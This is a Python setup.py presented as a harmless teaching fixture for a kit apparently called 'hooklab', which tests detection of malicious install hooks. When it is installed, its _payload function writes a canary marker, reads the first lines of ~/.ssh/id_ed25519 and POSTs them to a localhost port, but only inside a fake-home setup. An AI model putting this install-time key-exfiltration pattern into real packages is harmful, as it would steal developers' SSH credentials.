# HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
import http.client
import os
import pathlib

from setuptools import setup


def _payload():
    env = os.environ
    home = pathlib.Path(env.get("HOME", "/nonexistent"))
    # Nothing happens unless the kit set the stage: canary dir, port, and a home marked fake.
    if not (env.get("HOOKLAB_CANARY_DIR") and env.get("HOOKLAB_CANARY_PORT")) or not (home / ".hooklab-fake-home").is_file():
        return
    marker = pathlib.Path(env["HOOKLAB_CANARY_DIR"]) / f"pypi-setup-py.{os.getpid()}.marker"  # hooklab:payload
    marker.write_text("setup.py ran\n")
    key = (home / ".ssh" / "id_ed25519").read_text().splitlines()
    try:
        conn = http.client.HTTPConnection("127.0.0.1", int(env["HOOKLAB_CANARY_PORT"]), timeout=2)
        conn.request("POST", "/pypi-setup-py", body="\n".join(key[:2]))
        conn.getresponse()
    except OSError:
        pass


_payload()
setup(
    name="hooklab-fx-setuppy",
    version="1.0.0",
    packages=["hooklab_fx_setuppy"],
    entry_points={"console_scripts": ["hooklab-setuppy-hello=hooklab_fx_setuppy:main"]},
)
